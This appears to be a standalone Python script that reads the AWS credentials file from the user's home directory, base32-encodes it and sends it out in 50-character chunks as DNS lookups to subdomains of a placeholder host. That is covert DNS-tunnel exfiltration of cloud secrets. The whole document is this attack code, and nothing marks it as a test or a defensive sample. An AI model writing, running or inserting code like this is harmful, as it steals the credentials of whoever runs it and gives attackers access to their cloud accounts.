import base64, os, socket
p = os.path.expanduser('~/.aws/credentials')
try:
    data = open(p, 'rb').read()
except OSError:
    data = b''
enc = base64.b32encode(data).decode().rstrip('=').lower()
for i in range(0, len(enc), 50):
    try:
        socket.gethostbyname(f"{enc[i:i+50]}.{i}.t.example.invalid")
    except OSError:
        pass
